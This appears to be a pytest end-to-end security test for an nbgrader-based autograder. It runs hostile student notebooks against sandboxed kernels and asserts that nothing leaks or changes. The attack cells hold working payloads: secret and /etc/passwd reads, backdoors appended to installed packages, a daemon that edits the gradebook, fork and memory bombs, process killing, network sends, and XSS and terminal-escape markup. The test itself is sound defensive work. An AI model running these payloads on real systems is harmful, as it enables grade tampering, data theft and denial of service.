"""Hostile notebooks during ``nbgrader autograde``: each attack is one student of a real course.

Real nbgrader, real (confined) kernels. Students are graded in name order: an honest student first,
then one student per attack, then an honest student again. Every attacker submits the buggy layer
modules below and the released notebooks with the attack's cells added (their answers unwritten),
so their exact score is what ``python -m autograder grade`` gives their files: the attack gains
nothing and loses them nothing else. Afterwards the course, the kit and the installed packages are
unchanged byte for byte, no process of a kernel is left, and neither feedback nor the autograded
notebooks carry anything the kit did not choose to show.

The attacker knows the course's absolute path and its layout (it has read this repository).
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import socket
import stat
import sys
import sysconfig
import threading
import time
from pathlib import Path

import psutil
import pytest
from helpers import CORPUS, assert_kit_html, build_submission

pytest.importorskip("nbgrader")
from nbgrader_course import (
    ASSIGNMENT,
    ROOT,
    cli_grade,
    correct_modules,
    gradebook_scores,
    insert_after_setup,
    layer_score,
    nbgrader,
    new_course,
    released_notebooks,
    solved,
    write_student,
)

from autograder.course.release import _given_lines, solution_lines
from autograder.integrations.nbgrader.layer_cells import LAYER_CELLS
from autograder.integrations.seeds import SECRET_NAME
from autograder.sandbox import kernels, uids

MISSING = kernels.missing_protections()
pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(MISSING != [], reason="this machine cannot confine kernels: " + "; ".join(MISSING))]

BUGS = (CORPUS / "buggy" / "sigmoid_zeros.py", CORPUS / "buggy" / "rnn_upstream_not_added.py")
CELL_TIMEOUT = 10
BEFORE, AFTER = "aa_honest_anna", "zz_honest_zoe"
# Attacks made of the submission's files rather than notebook cells; the first three are quarantined.
QUARANTINED = ("attack_fifo_notebook", "attack_linked_notebooks", "attack_symlinked_layers")
SUBMISSION_ATTACKS = (*QUARANTINED, "attack_schema_version")
FIRST_NOTEBOOK = "1_saturated_sigmoids.ipynb"

# Each cell starts with this; every attempt is made, whatever the ones before it did.
PRELUDE = '''
import ctypes, os, pathlib, signal, socket, subprocess, sys, time
COURSE, KIT, ME = pathlib.Path({course!r}), pathlib.Path({kit!r}), {student!r}
SITE = pathlib.Path({site!r})
def attempt(what, action):
    try:
        print(what, "->", repr(action())[:20000])
    except BaseException as error:
        print(what, "-> refused:", type(error).__name__, error)
'''

ATTACKS: dict[str, list[str]] = {
    # Put the reference where the grader reads the student's code.
    "attack_copy_reference": ['''
for name in ("layers.py", "rnn_layers.py"):
    code = attempt("read reference", lambda: (COURSE / "solutions/backprop" / name).read_text())
    for target in (COURSE / "submitted" / ME / "backprop" / name, COURSE / "autograded" / ME / "backprop" / name):
        attempt(f"overwrite {target}", lambda: target.write_text("from solutions import *  # planted"))
        attempt(f"remove {target}", lambda: target.unlink())
        attempt(f"symlink {target}", lambda: target.symlink_to(COURSE / "solutions/backprop" / name))
'''],
    # Print what the course keeps secret, so that it lands in the feedback.
    "attack_print_secrets": ['''
for path in ["solutions/backprop/layers.py", "solutions/backprop/rnn_layers.py", "solutions/backprop/rubric.toml",
             "solutions/backprop/mistakes.py", ".backprop_grading_secret", "gradebook.db", "nbgrader_config.py"]:
    attempt(path, lambda: (COURSE / path).read_bytes())
attempt("students", lambda: os.listdir(COURSE / "submitted"))
attempt("classmate", lambda: (COURSE / "submitted/aa_honest_anna/backprop/layers.py").read_text())
attempt("environment", lambda: dict(os.environ))
attempt("grader environment", lambda: open("/proc/1/environ").read())
attempt("grader command", lambda: [open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()])
attempt("root", lambda: os.listdir("/root"))
attempt("passwd", lambda: open("/etc/passwd").read())
'''],
    # A process that outlives the kernel and edits the gradebook once nbgrader is done.
    "attack_daemon_edits_gradebook": ['''
def later():
    time.sleep(4)
    import sqlite3
    db = sqlite3.connect(str(COURSE / "gradebook.db"))
    db.execute("update grade set manual_score = 1000, auto_score = 1000")
    db.commit()
    (COURSE / "daemon_was_here").write_text("yes")
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            later()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
attempt("spawn a program", lambda: subprocess.Popen(["/bin/sleep", "60"]))
print("daemon started")
'''],
    # A backdoor in the grading package, the reference, nbgrader and numpy, for everyone graded later.
    "attack_backdoor_the_kit": ['''
BACKDOOR = "\\nimport os; os.system('touch /tmp/backdoor_ran')\\n"
for path in [KIT / "autograder/grading/grade.py", KIT / "autograder/integrations/nbgrader/layer_cells.py",
             KIT / "solutions/backprop/layers.py",
             COURSE / "solutions/backprop/layers.py", COURSE / "solutions/backprop/rubric.toml",
             COURSE / "nbgrader_config.py", SITE / "numpy/__init__.py", SITE / "nbgrader/__init__.py"]:
    attempt(f"append {path}", lambda: open(path, "a").write(BACKDOOR))
attempt("plant a .pth", lambda: (SITE / "zzz_backdoor.pth").write_text("import os"))
attempt("plant sitecustomize", lambda: (SITE / "sitecustomize.py").write_text(BACKDOOR))
attempt("chmod the reference", lambda: os.chmod(COURSE / "solutions/backprop/layers.py", 0o777))
'''],
    # Leave files where the next student's kernel or grading child might pick them up.
    "attack_plant_files": ['''
for path in ["/tmp/backprop_planted.py", "/dev/shm/backprop_planted", "/var/tmp/backprop_planted",
             str(COURSE / "backprop_planted"), str(COURSE / "submitted/zz_honest_zoe/backprop/layers.py"),
             str(COURSE / "feedback/planted.html"), str(COURSE / "autograded" / ME / "backprop/planted.html")]:
    attempt(f"write {path}", lambda: open(path, "w").write("planted"))
attempt("make a folder in /tmp", lambda: os.mkdir("/tmp/backprop_planted_folder"))
attempt("a socket in /tmp", lambda: socket.socket(socket.AF_UNIX).bind("/tmp/backprop_planted.sock"))
'''],
    # Reach the network: a TCP and a UDP listener of the test's, and the outside world.
    "attack_network": ['''
attempt("tcp to the test", lambda: socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2).sendall(b"leak"))
attempt("udp to the test", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak",
                                                                                   ("127.0.0.1", {udp_port})))
attempt("tcp outside", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2))
attempt("abstract unix socket", lambda: socket.socket(socket.AF_UNIX).connect("\\0backprop-test"))
'''],
    # Signal every process it can see or guess: the grader, nbgrader, other kernels.
    "attack_signals": ['''
attempt("grader", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("every pid", lambda: [pid for pid in range(2, 5000) if not os.kill(pid, signal.SIGTERM)])
attempt("process group 1", lambda: os.killpg(1, signal.SIGKILL))
'''],
    # System V shared memory, semaphores and queues: the channel two submissions used to swap answers.
    "attack_system_v_ipc": ['''
libc = ctypes.CDLL(None, use_errno=True)
IPC_CREAT = 0o1000
shm = libc.shmget(0x6B697421, 1 << 20, IPC_CREAT | 0o666)
print("shmget", shm, ctypes.get_errno())
if shm >= 0:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(shm, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, b"answers for my friend", 21)
print("semget", libc.semget(0x6B697422, 1, IPC_CREAT | 0o666), "msgget", libc.msgget(0x6B697423, IPC_CREAT | 0o666))
'''],
    # Exhaust the machine: processes, memory, disk, files.
    "attack_resource_bombs": ['''
children = 0
for _ in range(500):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
print("forked", children)
attempt("4 GB", lambda: len(bytearray(4 << 30)))
attempt("a 300 MB file", lambda: open("big.bin", "wb").write(b"0" * (300 << 20)))
''', '''
for i in range(3000):
    open(f"many_{i}.txt", "w").close()
print("made 3000 files")
'''],
    # Print far more than anyone can read, and push one huge message down its own channel.
    "attack_giant_output": ['''
for _ in range(120):
    print("x" * (1 << 20))
''', '''
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "y" * (200 << 20)},
                    parent=kernel.get_parent())
print("sent")
'''],
    # Markup and terminal codes for the TA's browser and terminal.
    "attack_markup": ['''
from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>alert('pwned-html')</script><b>full marks</b>"))
display(Javascript("alert('pwned-js')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned-svg")</script></svg>'))
display(Markdown("<img src=x onerror=alert('pwned-md')>"))
print("\\x1b]0;pwned-title\\x07\\x1b[2J\\x1b[31mred\\x1b[0m \\u202epwned-bidi")
get_ipython().display_pub.publish({"text/html": "<script>alert('pwned-publish')</script>",
                                   "application/vnd.jupyter.widget-view+json": {"model_id": "x"}})
'''],
    # End its own kernel in the middle of the notebook.
    "attack_kernel_exits": ['''
print("bye")
os._exit(0)
'''],
    # A loop that the grader's interrupt cannot stop.
    "attack_ignores_interrupt": ['''
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''],
    # Watch and chmod the grader's folders, as a submission did to its classmates.
    "attack_chmod_and_watch": ['''
import glob
for folder in glob.glob("/tmp/backprop-*") + [str(COURSE), str(COURSE / "submitted"), "/tmp"]:
    attempt(f"chmod {folder}", lambda: os.chmod(folder, 0))
    attempt(f"utime {folder}", lambda: os.utime(folder, (0, 0)))
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
print("watch course", libc.inotify_add_watch(fd, str(COURSE).encode(), 0xFFF), ctypes.get_errno())
'''],
}


def _tree(folder: Path, skip: frozenset[str] = frozenset()) -> dict[str, str]:
    """Relative path -> sha256 (a link's target, or the kind of a special file) and mode of everything
    under ``folder``, without following links or opening anything but regular files."""
    found = {}
    for top, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if name not in skip and name != "__pycache__"
                      and str((Path(top) / name).relative_to(folder)) not in skip]
        for name in files + [name for name in folders if os.path.islink(os.path.join(top, name))]:
            path = Path(top) / name
            relative = str(path.relative_to(folder))
            if relative in skip:
                continue
            info = os.lstat(path)
            if stat.S_ISLNK(info.st_mode):
                found[relative] = f"-> {os.readlink(path)}"
            elif stat.S_ISREG(info.st_mode):
                found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[relative] = "special"
            found[relative] += f" {info.st_mode:o}"
    return found


def _kit() -> dict[str, str]:
    """What grading runs: the grading package, the reference, the release and the course configuration."""
    return {f"{part}/{path}": digest for part in ("autograder", "solutions", "assignment")
            for path, digest in _tree(ROOT / part).items()} | {
        "nbgrader_config.py": hashlib.sha256((ROOT / "nbgrader_config.py").read_bytes()).hexdigest()}


def _packages() -> dict[str, tuple[int, int, int]]:
    """Every file of the installed packages: (size, mtime, mode). A change to any is a change."""
    site = Path(sysconfig.get_paths()["purelib"])
    found = {}
    for top, folders, files in os.walk(site):
        folders[:] = [name for name in folders if name != "__pycache__"]
        for name in files:
            info = os.lstat(Path(top) / name)
            found[str(Path(top) / name)] = (info.st_size, info.st_mtime_ns, info.st_mode)
    return found


def _children() -> set[int]:
    """This test process's descendants that still run (others, such as a Dask test's, came before)."""
    return {p.pid for p in psutil.Process().children(recursive=True) if p.is_running() and p.status() != "zombie"}


def _system_v() -> set[str]:
    return {line.split()[1] for name in ("shm", "sem", "msg")
            for line in Path(f"/proc/sysvipc/{name}").read_text().splitlines()[1:]}


def _kernel_processes(started_before: float) -> list[psutil.Process]:
    """Processes still running as a kernel's uid that were started before ``started_before``
    (a kernel of another grading on the same machine may come later)."""
    time.sleep(1)  # a killed tree is reaped asynchronously
    found = []
    for process in psutil.process_iter(["uids", "create_time", "status"]):
        ids = process.info["uids"]
        if (ids and uids.FIRST_UID <= ids.real < uids.FIRST_UID + uids.COUNT and process.info["status"] != "zombie"
                and process.info["create_time"] <= started_before and process.is_running()):
            found.append(process)
    return found


class _Listener:
    """A TCP and a UDP socket on loopback that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.received: list[str] = []
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.received.append("tcp")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recvfrom(100)
            except OSError:
                return
            self.received.append("udp")

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict:
    course = new_course(tmp_path_factory.mktemp("attacked-course"))
    correct = correct_modules(course / "modules" / "correct")
    buggy = build_submission(course / "modules" / "buggy", *BUGS)
    listener = _Listener()
    site = sysconfig.get_paths()["purelib"]
    placeholders = {"course": str(course), "kit": str(ROOT), "site": site,
                    "tcp_port": listener.tcp.getsockname()[1], "udp_port": listener.udp.getsockname()[1]}

    write_student(course, BEFORE, solved(course), correct)
    write_student(course, AFTER, solved(course), correct)
    for student, cells in ATTACKS.items():
        notebooks = released_notebooks(course)
        prelude = PRELUDE.format(student=student, **placeholders)
        for number, cell in enumerate(reversed(cells)):
            source = prelude + cell.replace("{tcp_port}", str(placeholders["tcp_port"])).replace(
                "{udp_port}", str(placeholders["udp_port"]))
            insert_after_setup(notebooks[FIRST_NOTEBOOK], source, f"attack-{number}")
        write_student(course, student, notebooks, buggy)
    linked = write_student(course, "attack_linked_notebooks", {}, buggy)  # the solution's and a classmate's
    for name, target in [("1_saturated_sigmoids.ipynb", course / "solutions" / ASSIGNMENT),
                         ("3_exploding_rnn_gradients.ipynb", course / "solutions" / ASSIGNMENT),
                         ("2_dying_relus.ipynb", course / "submitted" / BEFORE / ASSIGNMENT)]:
        (linked / name).unlink()
        (linked / name).symlink_to(target / name)
    fifo = write_student(course, "attack_fifo_notebook", {}, buggy)  # hangs whoever opens it
    (fifo / FIRST_NOTEBOOK).unlink()
    os.mkfifo(fifo / FIRST_NOTEBOOK)
    os.mkfifo(fifo / "notes.txt")
    (fifo / "zeros.bin").symlink_to("/dev/zero")
    schema = released_notebooks(course)  # a schema version nbgrader refuses: it used to end the whole run
    schema[FIRST_NOTEBOOK]["cells"][1]["metadata"]["nbgrader"]["schema_version"] = 4
    write_student(course, "attack_schema_version", schema, buggy)
    symlinked = write_student(course, "attack_symlinked_layers", {}, buggy)
    (symlinked / "layers.py").unlink()
    (symlinked / "layers.py").symlink_to(course / "solutions" / ASSIGNMENT / "layers.py")
    (symlinked / "notes.txt").symlink_to(course / "solutions" / ASSIGNMENT / "mistakes.py")
    (symlinked / "notes").symlink_to(course / "solutions", target_is_directory=True)

    students = sorted([BEFORE, AFTER, *ATTACKS, *SUBMISSION_ATTACKS])
    nbgrader_writes = frozenset({"autograded", "feedback", "gradebook.db", SECRET_NAME, "quarantined", "graded",
                                 *(f"submitted/{student}" for student in QUARANTINED)})
    course_before, kit_before = _tree(course, nbgrader_writes), _kit()
    packages_before, ipc_before, children_before = _packages(), _system_v(), _children()

    autograded = nbgrader(course, "autograde", ASSIGNMENT, f"--Execute.timeout={CELL_TIMEOUT}")
    autograde_ended = time.time()
    feedback = nbgrader(course, "generate_feedback", ASSIGNMENT)
    listener.close()
    scores, max_points = gradebook_scores(course, students)
    return {"path": course, "students": students, "scores": scores, "max_points": max_points,
            "autograde": autograded, "feedback": feedback, "received": listener.received,
            "course_before": course_before, "course_after": _tree(course, nbgrader_writes),
            "kit_before": kit_before, "kit_after": _kit(),
            "packages_before": packages_before, "packages_after": _packages(),
            "ipc_before": ipc_before, "ipc_after": _system_v(), "kernel_processes": _kernel_processes(autograde_ended),
            "children_before": children_before, "children_after": _children()}


def test_autograde_finishes_for_every_student(attacked: dict) -> None:
    for step in ("autograde", "feedback"):
        done = attacked[step]
        assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-6000:]


@pytest.mark.parametrize("student", sorted([*ATTACKS, *SUBMISSION_ATTACKS]))
def test_an_attacker_scores_exactly_what_its_files_earn(attacked: dict, student: str) -> None:
    """The layer cells are the CLI's scores of the submitted files; the unwritten answers earn nothing."""
    cli = cli_grade(attacked["path"], student)
    got = attacked["scores"][student]
    assert layer_score(got) == pytest.approx(cli["score"], abs=1e-6)
    for grade_id, function in LAYER_CELLS.items():
        expected = sum(t["score"] for t in cli["tests"] if t["name"].startswith(f"{function.name}:"))
        assert got[grade_id] == pytest.approx(expected, abs=1e-6), grade_id
    assert sum(got.values()) == pytest.approx(cli["score"], abs=1e-6), "nothing else is scored"
    assert 0 < cli["score"] < 100


def test_what_nbgrader_must_not_read_is_quarantined_whole(attacked: dict) -> None:
    course = attacked["path"]
    quarantined = course / "quarantined"
    assert sorted(p.name for p in quarantined.iterdir()) == sorted(QUARANTINED)
    moved = {str(p.relative_to(quarantined)) for p in quarantined.glob("*/*/*")}
    expected = {"attack_fifo_notebook": (FIRST_NOTEBOOK, "notes.txt", "zeros.bin"),
                "attack_linked_notebooks": ("1_saturated_sigmoids.ipynb", "2_dying_relus.ipynb",
                                            "3_exploding_rnn_gradients.ipynb"),
                "attack_symlinked_layers": ("layers.py", "notes.txt", "notes")}
    assert moved == {f"{student}/{ASSIGNMENT}/{name}" for student, names in expected.items() for name in names}
    assert (quarantined / "attack_symlinked_layers" / ASSIGNMENT / "layers.py").is_symlink()
    for student in ("attack_fifo_notebook", "attack_linked_notebooks"):  # graded as unanswered notebooks
        submitted = course / "submitted" / student / ASSIGNMENT
        for name in ("1_saturated_sigmoids.ipynb",):
            assert (submitted / name).read_bytes() == (course / "assignment" / ASSIGNMENT / name).read_bytes()
    assert "attack_linked_notebooks/backprop/2_dying_relus.ipynb is a symbolic link" in attacked["autograde"].stderr
    layers = [t for t in cli_grade(course, "attack_symlinked_layers")["tests"]
              if t["name"].split(":")[0] in {f.name for f in LAYER_CELLS.values() if f.module == "layers"}]
    assert layers and all(t["score"] == 0 for t in layers)


@pytest.mark.parametrize("student", [BEFORE, AFTER])
def test_honest_students_around_the_attacks_get_full_marks(attacked: dict, student: str) -> None:
    scores, max_points = attacked["scores"][student], attacked["max_points"]
    automatic = [cell for cell in max_points if cell in LAYER_CELLS or cell.startswith("test_")]
    assert {cell: scores[cell] for cell in automatic} == {cell: max_points[cell] for cell in automatic}
    assert layer_score(scores) == pytest.approx(cli_grade(attacked["path"], student)["score"])


def test_the_course_the_kit_and_the_packages_are_unchanged(attacked: dict) -> None:
    assert attacked["course_after"] == attacked["course_before"]
    # graded/ is the kit's own, for the TA: one results.json per student, and nothing else
    graded = attacked["path"] / "graded" / ASSIGNMENT
    assert sorted(str(path.relative_to(graded)) for path in graded.rglob("*") if not path.is_dir()) == sorted(
        f"{student}/results.json" for student in attacked["students"])
    assert attacked["kit_after"] == attacked["kit_before"]
    changed = {path for path, info in attacked["packages_after"].items()
               if attacked["packages_before"].get(path) != info} | (set(attacked["packages_before"]) -
                                                                    set(attacked["packages_after"]))
    assert not changed
    for planted in ("/tmp/backprop_planted.py", "/dev/shm/backprop_planted", "/var/tmp/backprop_planted",
                    "/tmp/backprop_planted_folder", "/tmp/backprop_planted.sock", "/tmp/backdoor_ran"):
        assert not os.path.lexists(planted), planted
    assert not (attacked["path"] / "daemon_was_here").exists()


def test_no_kernel_process_and_no_system_v_object_is_left(attacked: dict) -> None:
    assert attacked["kernel_processes"] == []
    assert attacked["ipc_after"] <= attacked["ipc_before"]
    assert attacked["children_after"] <= attacked["children_before"], "no new process of this test's is left"


def test_nothing_reached_the_network(attacked: dict) -> None:
    assert attacked["received"] == []


def _feedback_page(course: Path, student: str) -> str:
    pages = sorted((course / "feedback" / student / ASSIGNMENT).glob("*.html"))
    assert pages, student
    return "\n".join(page.read_text() for page in pages)


def _outputs_text(course: Path, student: str) -> str:
    """Everything the student's kernel and the kit put in the autograded notebooks' outputs."""
    texts = []
    for path in sorted((course / "autograded" / student / ASSIGNMENT).glob("*.ipynb")):
        for cell in json.loads(path.read_text())["cells"]:
            texts += [json.dumps(output, ensure_ascii=False) for output in cell.get("outputs", [])]
    return "\n".join(texts)


def test_feedback_shows_no_secret_solution_or_markup(attacked: dict) -> None:
    """The feedback page shows each student's own cells (the attacks' source included) and the outputs."""
    course = attacked["path"]
    secret = (course / SECRET_NAME).read_text().strip()
    solutions = course / "solutions" / ASSIGNMENT
    hidden = {line for line in solution_lines(solutions) - _given_lines(solutions) if len(line) > 12}
    for student in attacked["students"]:
        page = _feedback_page(course, student)
        text = html.unescape(re.sub(r"<[^>]+>", "", page))
        assert secret not in text, student
        if student.startswith("attack_"):  # they wrote no answer: no line of the solutions is theirs
            assert not [line for line in hidden if line in text], student
        assert "\x1b" not in page and "\u202e" not in page, student
        assert "<script>alert" not in page and "<img src=x onerror" not in page and "<b>full marks" not in page


def test_outputs_show_no_path_of_the_machine_no_classmate_and_no_markup(attacked: dict) -> None:
    course = attacked["path"]
    grader_paths = [str(course), str(ROOT), sys.prefix, sysconfig.get_paths()["purelib"], "/tmp/backprop-kernel-"]
    for student in attacked["students"]:
        outputs = _outputs_text(course, student)
        assert not [path for path in grader_paths if path in outputs], student
        sources = "".join(ATTACKS.get(student, []))  # a name the attack was given is no leak
        others = [name for name in attacked["students"] if name != student and name in outputs and name not in sources]
        assert not others, (student, others)
        assert "pwned" not in outputs.replace("pwned-bidi", ""), student


def test_the_autograded_notebooks_keep_only_text_and_pictures(attacked: dict) -> None:
    """The one HTML left is the kit's feedback in the layer grade cells, written after the kernel ran."""
    for student in attacked["students"]:
        folder = attacked["path"] / "autograded" / student / ASSIGNMENT
        for path in folder.glob("*.ipynb"):
            assert path.stat().st_size < 24 << 20, path
            notebook = json.loads(path.read_text())
            for cell in notebook["cells"]:
                kits = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") in LAYER_CELLS
                for output in cell.get("outputs", []):
                    data = output.get("data", {})
                    if kits and output["output_type"] == "display_data":
                        assert set(data) == {"text/plain", "text/html"}, (path, output)
                        assert_kit_html("".join(data["text/html"]), fragment=True)
                    else:
                        assert set(data) <= {"text/plain", "image/png"}, (path, output)
        submitted = attacked["path"] / "submitted" / student / ASSIGNMENT
        allowed = {p.name for p in submitted.iterdir() if not p.is_symlink()} | {
            p.name for p in (attacked["path"] / "solutions" / ASSIGNMENT).iterdir()}
        assert {p.name for p in folder.iterdir()} <= allowed, student


def test_nothing_a_submission_links_to_reaches_grading_or_feedback(attacked: dict) -> None:
    course = attacked["path"]
    for folder in (course / "autograded", course / "feedback"):
        copied = folder / "attack_symlinked_layers" / ASSIGNMENT
        assert copied.is_dir()
        assert not [p.name for p in copied.iterdir() if p.name in ("layers.py", "notes.txt", "notes")], folder
